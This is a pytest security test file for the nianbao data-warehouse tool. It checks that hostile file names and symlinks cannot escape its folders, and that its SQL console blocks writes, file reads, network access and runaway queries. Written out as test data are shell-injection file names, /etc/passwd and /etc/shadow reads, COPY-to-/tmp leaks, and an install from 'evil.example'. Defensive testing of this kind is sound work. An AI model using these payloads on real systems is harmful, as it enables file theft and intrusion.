"""Security: hostile file names in the inbox never make nianbao read or write outside its folders, and
the SQL console / `nianbao sql` cannot write, reach files or the network, or run unbounded.

(tests/test_sql_safety.py, by the warehouse's authors, covers the basics of `run_query`; this file attacks
it harder and also goes through the real command line.)
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dagster_project.defs.warehouse.discover import display_path
from dagster_project.defs.warehouse.parse import quarantine_copy
from nianbao import warehouse as wh

ROOT = Path(__file__).resolve().parents[1]
NIANBAO = Path(sys.executable).parent / "nianbao"
SAMPLE = (ROOT / "data" / "samples" / "000_b1d8bfba56152971.txt").read_bytes()


def tree(folder: Path) -> dict[str, bytes]:
    """{path: content} of every regular file under `folder` (symlinks not followed)."""
    out = {}
    for dirpath, _dirs, files in os.walk(os.fsencode(folder)):
        for name in files:
            path = os.path.join(dirpath, name)
            if not os.path.islink(path):
                with open(path, "rb") as handle:
                    out[os.fsdecode(path)] = handle.read()
    return out


# ---- file names ----------------------------------------------------------------------------------------
HOSTILE_NAMES = [
    "..txt", "...", "..\\..\\evil.txt", "-rf.txt", "--warehouse=evil.txt", "a\nb.txt", " lead.txt",
    "名称 | 住所 |.txt", "$(touch pwned).txt", "`id`.txt", "a;rm -rf x.txt", "%2e%2e%2fetc.txt",
    "x" * 200 + ".txt",
]  # fmt: skip
NON_UTF8_NAMES = [b"\xb5\xa5\xce\xbb\xc3\xfb\xb3\xc6.txt", b"\xff\xfe.txt", b"\\xff.txt", b"bad\x80name"]


@pytest.fixture(scope="module")
def hostile_inbox(tmp_path_factory: pytest.TempPathFactory) -> dict:
    root = tmp_path_factory.mktemp("hostile")
    inbox, data, outside = root / "inbox", root / "data", root / "outside"
    for folder in (inbox / "sub", outside):
        folder.mkdir(parents=True)
    secret = outside / "secret.txt"
    secret.write_bytes(SAMPLE.replace("湖州市人民对外友好协会秘书处".encode(), "秘密单位".encode()))
    for index, name in enumerate(HOSTILE_NAMES):
        (inbox / name).write_bytes(SAMPLE + b"\n" * (index + 1))  # distinct bytes: not duplicates
    for index, name in enumerate(NON_UTF8_NAMES):
        with open(os.path.join(os.fsencode(inbox), name), "wb") as handle:
            handle.write(SAMPLE + b" " * (index + 1))
    (inbox / "link_to_secret.txt").symlink_to(secret)  # a link out of the inbox
    (inbox / "sub" / "link_dir").symlink_to(outside, target_is_directory=True)
    (inbox / "passwd.txt").symlink_to("/etc/passwd")
    before = {"outside": tree(outside), "inbox": tree(inbox), "root": set(tree(root))}
    result = subprocess.run(
        [str(NIANBAO), "ingest", "--quiet", "--warehouse", str(data / "warehouse.duckdb"),
         str(inbox / "sub" / ".." / ".." / "inbox")],
        cwd=root, capture_output=True, text=True, timeout=900,
    )  # fmt: skip
    return {
        "root": root,
        "inbox": inbox,
        "data": data,
        "outside": outside,
        "before": before,
        "result": result,
    }


def test_hostile_names_are_ingested_and_nothing_is_written_outside_the_data_folder(
    hostile_inbox: dict,
) -> None:
    result, root, data = hostile_inbox["result"], hostile_inbox["root"], hostile_inbox["data"]
    assert result.returncode == 0, result.stderr[-2000:]
    before = hostile_inbox["before"]
    assert tree(hostile_inbox["outside"]) == before["outside"], "nothing outside touched"
    assert tree(hostile_inbox["inbox"]) == before["inbox"], "the inbox is read, never changed"
    new_files = set(tree(root)) - before["root"]
    assert new_files and all(Path(p).is_relative_to(data) for p in new_files), sorted(new_files)[:5]
    assert not (root / "pwned").exists() and not Path("pwned").exists()


def test_every_hostile_name_has_one_row_and_symlinks_are_not_followed(hostile_inbox: dict) -> None:
    warehouse = hostile_inbox["data"] / "warehouse.duckdb"
    with wh.connect(warehouse) as con:
        rows = con.execute("SELECT path, outcome FROM ingest_files").fetchall()
        leaked = con.execute(
            "SELECT count(*) FROM reports WHERE name = '秘密单位' OR source_path LIKE '%secret%'"
        ).fetchall()[0][0]
        passwd = con.execute(
            "SELECT count(*) FROM ingest_files WHERE path LIKE '%passwd%' OR path LIKE '%link%'"
        ).fetchall()[0][0]
    # Names starting with "." are skipped by discovery as hidden files (editor and OS droppings); they are
    # the only files without a row (reported: they leave no trace in ingest_files).
    hidden = [name for name in HOSTILE_NAMES if name.startswith(".")]
    assert len(rows) == len(HOSTILE_NAMES) - len(hidden) + len(NON_UTF8_NAMES)
    assert len({path for path, _ in rows}) == len(rows), "two files, two distinct paths"
    assert {outcome for _, outcome in rows} <= {"loaded", "superseded", "duplicate"}
    assert leaked == 0 and passwd == 0
    shown = {path.rsplit("/", 1)[-1] for path, _ in rows}
    assert "\\xff\\xfe.txt" in shown, "undecodable bytes are shown as escapes"


@pytest.mark.xfail(reason="display_path is not injective: bytes b'\\xff' and the text '\\xff' look the same")
def test_escaped_display_paths_cannot_collide(hostile_inbox: dict) -> None:
    assert display_path(b"\xff.txt") != display_path(b"\\xff.txt")


HOSTILE_RAW = st.one_of(
    st.binary(min_size=1, max_size=80),
    st.sampled_from([b"../../etc/cron.d/x", b"/abs/../../x.sh", b"x./../../y", b"..", b"a.\xff\xfe",
                     b"a." + b"b" * 40, b"a.txt/../../../z", b"a.t\x00xt", b"a.\n", b"a.%2e%2e"]),
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(raw=HOSTILE_RAW)
def test_quarantine_copies_stay_in_the_quarantine_folder(raw: bytes, tmp_path_factory) -> None:
    folder = tmp_path_factory.mktemp("q")
    copy = quarantine_copy(raw, b"data", "ab" * 32, str(folder))
    assert copy is not None
    assert Path(copy).resolve().parent == folder.resolve()
    assert Path(copy).name.startswith("ab" * 32)


@settings(max_examples=300, deadline=None)
@given(raw=st.binary(max_size=200))
def test_display_paths_are_valid_text(raw: bytes) -> None:
    shown = display_path(raw)
    shown.encode("utf-8")  # storable in a VARCHAR column, printable in a terminal log
    assert "\udcff" not in shown


# ---- SQL: read-only, no files, no network, bounded ----------------------------------------------------
@pytest.fixture(scope="module")
def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("sqlwh")
    warehouse = root / "warehouse.duckdb"
    snap = wh.snapshot_path(warehouse)
    snap.parent.mkdir(parents=True)
    con = duckdb.connect(str(snap))
    con.execute("CREATE TABLE reports AS SELECT range AS report_id, 'r' || range AS name FROM range(1000)")
    con.close()
    (root / "victim.csv").write_text("a,b\n1,2\n")
    return warehouse


ATTACKS = [
    "CREATE TABLE t AS SELECT 1",
    "DROP TABLE reports",
    "INSERT INTO reports VALUES (1, 'x')",
    "UPDATE reports SET name = 'x'",
    "DELETE FROM reports",
    "ALTER TABLE reports ADD COLUMN x INT",
    "CREATE VIEW v AS SELECT 1",
    "CREATE MACRO m() AS 1",
    "CREATE SECRET s (TYPE S3, KEY_ID 'x', SECRET 'y')",
    "ATTACH '/tmp/evil.duckdb' AS evil",
    "ATTACH ':memory:' AS m",
    "DETACH DATABASE x",
    "COPY reports TO '/tmp/nianbao-leak.csv'",
    "COPY (SELECT 1) TO '/tmp/nianbao-leak.parquet' (FORMAT PARQUET)",
    "EXPORT DATABASE '/tmp/nianbao-export'",
    "IMPORT DATABASE '/tmp/nianbao-export'",
    "INSTALL httpfs",
    "LOAD httpfs",
    "FORCE INSTALL httpfs FROM 'http://evil.example'",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "RESET lock_configuration",
    "PRAGMA enable_profiling",
    "CALL pragma_version()",
    "CHECKPOINT",
    "VACUUM",
    "BEGIN TRANSACTION",
    "USE memory",
    "SELECT 1; DROP TABLE reports",
    "SELECT 1; COPY reports TO '/tmp/x.csv'",
    "WITH x AS (SELECT 1) INSERT INTO reports SELECT 1, 'x'",
    "EXPLAIN ANALYZE COPY reports TO '/tmp/x.csv'",
    "/* SELECT */ DROP TABLE reports",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('/etc/passwd', sep=':')",
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/shadow')",
    "SELECT * FROM glob('/*')",
    "SELECT * FROM glob('**')",
    "SELECT * FROM '/etc/passwd'",
    "FROM 'victim.csv'",
    "SELECT * FROM read_parquet('/tmp/*.parquet')",
    "SELECT * FROM read_json('/etc/hostname')",
    "SELECT * FROM sniff_csv('/etc/passwd')",
    "SELECT * FROM read_csv('http://example.com/x.csv')",
    "SELECT * FROM read_parquet('https://example.com/x.parquet')",
    "SELECT * FROM read_csv('s3://bucket/x.csv')",
    "SELECT getenv('HOME')",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM query_table('/etc/passwd')",
    "SELECT * FROM query('COPY reports TO ''/tmp/x.csv''')",
]


def _refused(sql: str, warehouse: Path) -> bool:
    try:
        result = wh.run_query(sql, warehouse, timeout_s=5)
    except (wh.UnsafeQuery, duckdb.Error, wh.QueryTimeout):
        return True
    # harmless leftovers are allowed only when they read nothing from outside (e.g. getenv disabled → NULL)
    return not any(value for row in result.rows for value in row)


@pytest.mark.parametrize("sql", ATTACKS)
def test_sql_attacks_are_refused(snapshot: Path, sql: str) -> None:
    before = snapshot.parent.stat().st_mtime_ns, sorted(os.listdir("/tmp"))
    assert _refused(sql, snapshot), sql
    with wh.connect(snapshot) as con:
        assert con.execute("SELECT count(*) FROM reports").fetchall() == [(1000,)]
    assert not Path("/tmp/nianbao-leak.csv").exists() and not Path("/tmp/nianbao-export").exists()
    assert not Path("/tmp/evil.duckdb").exists()
    assert before[0] == snapshot.parent.stat().st_mtime_ns


def test_a_long_query_is_cut_at_the_time_limit(snapshot: Path) -> None:
    started = time.monotonic()
    with pytest.raises(wh.QueryTimeout):
        wh.run_query("SELECT count(*) FROM range(100000000000) a", snapshot, timeout_s=1)
    assert time.monotonic() - started < 30  # a bound, not a timing: without the cut this runs for hours


def test_a_huge_result_is_cut_at_the_row_limit(snapshot: Path) -> None:
    result = wh.run_query("SELECT * FROM range(100000000)", snapshot, max_rows=100, timeout_s=20)
    assert len(result.rows) == 100 and result.truncated


@pytest.mark.parametrize(
    "sql",
    [
        "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1",
        "EXPLAIN (FORMAT json) COPY reports TO '/tmp/x.csv'",
        "/* x */ explain analyze -- y\n INSERT INTO reports VALUES (1, 'x')",
        "EXPLAIN ANALYZE ATTACH ':memory:' AS m",
    ],
)
def test_explain_of_anything_but_a_read_is_refused_before_it_runs(sql: str) -> None:
    with pytest.raises(wh.UnsafeQuery):
        wh.check_read_only_sql(sql)


def test_explain_of_a_read_runs(snapshot: Path) -> None:
    assert wh.run_query("EXPLAIN ANALYZE SELECT count(*) FROM reports", snapshot).rows


def test_one_long_function_call_is_cut_at_the_time_limit(snapshot: Path) -> None:
    """DuckDB checks for an interrupt only between chunks: one repeat() of a billion characters runs on for
    tens of seconds and gigabytes. The query's process is killed instead."""
    started = time.monotonic()
    with pytest.raises((wh.QueryTimeout, duckdb.OutOfMemoryException)):
        wh.run_query("SELECT length(repeat('x', 2000000000))", snapshot, timeout_s=1)
    assert time.monotonic() - started < 30  # a bound, not a timing: uncut it runs for minutes


def test_a_wide_result_is_cut_at_the_byte_limit(snapshot: Path) -> None:
    result = wh.run_query("SELECT repeat('x', 100000) AS wide FROM range(5000)", snapshot, max_bytes=2**24)
    assert result.truncated_by == "bytes" and 0 < len(result.rows) < 5000
    assert result.table.nbytes <= 2**24


def test_a_truncated_result_leaves_no_unfinished_result_behind(snapshot: Path) -> None:
    held = wh.open_snapshot(snapshot)  # shares the database instance of every later open in this process
    try:
        assert wh.run_query("SELECT * FROM range(100000)", snapshot, max_rows=10).truncated_by == "rows"
        with wh.connect(snapshot) as con:
            assert con.execute("SELECT count(*) FROM reports").fetchall() == [(1000,)]
        assert held.execute("SELECT 1").fetchall() == [(1,)]
    finally:
        held.close()


@pytest.mark.parametrize(
    "sql",
    ["SELECT repeat('x', 1000000) FROM range(3000)", "SELECT length(repeat('x', 2000000000))",
     "SELECT * FROM no_such_table", "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1"],
)  # fmt: skip
def test_nianbao_sql_fails_in_one_line(snapshot: Path, sql: str) -> None:
    result = subprocess.run(
        [str(NIANBAO), "sql", "--warehouse", str(snapshot), "--timeout", "2", sql],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert result.returncode != 0
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr


@pytest.mark.parametrize(
    "sql",
    ["DROP TABLE reports", "COPY reports TO '/tmp/nianbao-cli-leak.csv'",
     "SELECT * FROM read_text('/etc/passwd')", "ATTACH '/tmp/nianbao-cli.duckdb'", "INSTALL httpfs"],
)  # fmt: skip
def test_nianbao_sql_refuses_attacks(snapshot: Path, sql: str) -> None:
    result = subprocess.run(
        [str(NIANBAO), "sql", "--warehouse", str(snapshot), sql], capture_output=True, text=True, timeout=300
    )
    assert result.returncode != 0
    assert "Traceback" not in result.stderr, result.stderr[-1500:]
    assert "root:" not in result.stdout
    assert not Path("/tmp/nianbao-cli-leak.csv").exists() and not Path("/tmp/nianbao-cli.duckdb").exists()


def test_nianbao_sql_cuts_a_long_query(snapshot: Path) -> None:
    result = subprocess.run(
        [str(NIANBAO), "sql", "--warehouse", str(snapshot), "--timeout", "1",
         "SELECT count(*) FROM range(100000000000) a"],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert result.returncode != 0 and "Traceback" not in result.stderr
